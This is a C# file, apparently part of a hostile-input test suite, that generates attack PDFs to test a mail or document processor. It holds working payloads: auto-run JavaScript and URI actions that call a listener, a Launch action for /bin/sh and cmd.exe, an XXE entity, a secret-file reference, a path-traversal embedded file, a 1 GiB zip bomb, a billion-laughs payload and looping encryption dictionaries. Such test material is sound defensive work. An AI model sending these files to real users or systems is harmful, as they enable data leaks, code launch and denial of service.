using Mailroom.Hostile.Making;
using static Mailroom.Hostile.Making.Bytes;

namespace Mailroom.Hostile.Pdf;

/// <summary>PDFs that would do something, or keep something to themselves.</summary>
internal static class PdfActions
{
    public static IEnumerable<Attack> All(Bait bait) =>
    [
        new("pdf-javascript", "Scripts are to run when the file is opened.", () => PdfWriter.OnePage(catalog: $"/OpenAction << /S /JavaScript /JS (app.launchURL\\('{bait.Listener}'\\); while\\(true\\){{}}) >> /AA << /WC << /S /JavaScript /JS (1) >> >>").Write()),
        new("pdf-launch", "Programs are to be started and addresses to be opened.", () => PdfWriter.OnePage(page: $"/AA << /O << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >> >> /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A << /S /URI /URI ({bait.Listener}link) >> >>]",
            catalog: $"/OpenAction << /S /URI /URI ({bait.Listener}open) >>").Write()),
        new("pdf-remote-parts", "Contents, pictures and fonts are to be loaded from files and addresses.", () => PdfWriter.OnePage("/I Do", page: "", resources: "/XObject << /I 6 0 R /J 7 0 R >>")
            .Add($"<< /Type /XObject /Subtype /Image /Width 10 /Height 10 /F << /FS /URL /F ({bait.Listener}picture) >> /Length 0 >>\nstream\n\nendstream")
            .Add($"<< /Type /XObject /Subtype /Form /Ref << /F ({bait.SecretFile}) /Page 0 >> /F ({bait.SecretFile}) /Length 0 >>\nstream\n\nendstream").Write()),
        new("pdf-submit-form", "The form is to be sent away when the file is opened.", () => PdfWriter.OnePage(catalog: $"/AcroForm << /Fields [] /XFA 6 0 R >> /OpenAction << /S /SubmitForm /F << /FS /URL /F ({bait.Listener}form) >> /Flags 4 >>")
            .AddStream("", Latin($"<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"{bait.Listener}xfa\">]><a>&x;</a>")).Write()),
        new("pdf-embedded-files", "A bomb lies in the PDF as an embedded file.", () => PdfWriter.OnePage(catalog: "/Names << /EmbeddedFiles << /Names [(a.zip) << /Type /Filespec /F (../../a.zip) /EF << /F 6 0 R >> >>] >> >>")
            .AddStream("/Type /EmbeddedFile /Filter /FlateDecode", PackedZeros(1L << 30)).Write()),
        new("pdf-unknown-encryption", "The file is encrypted in a way that nobody knows.", () => PdfWriter.OnePage().Add("<< /Filter /Unheard.Of /V 99 /R 99 /Length 2147483647 /O (x) /U (y) /P -1 >>").Write("/Encrypt 6 0 R /ID [(a) (b)]")),
        new("pdf-encryption-loop", "The dictionary of the encryption is encrypted, and holds itself.", () => PdfWriter.OnePage().Add("<< /Filter /Standard /V 5 /R 6 /O 6 0 R /U 6 0 R /UE 6 0 R /OE 6 0 R /P 6 0 R /CF 6 0 R /StmF /A >>").Write("/Encrypt 6 0 R /ID [6 0 R 6 0 R]")),
        new("pdf-xmp-entities", "The file's notes about itself have entities that grow.", () => PdfWriter.OnePage(catalog: "/Metadata 6 0 R").AddStream("/Type /Metadata /Subtype /XML", Latin(Xml.XmlAttacks.BillionLaughs())).Write()),
    ];
}
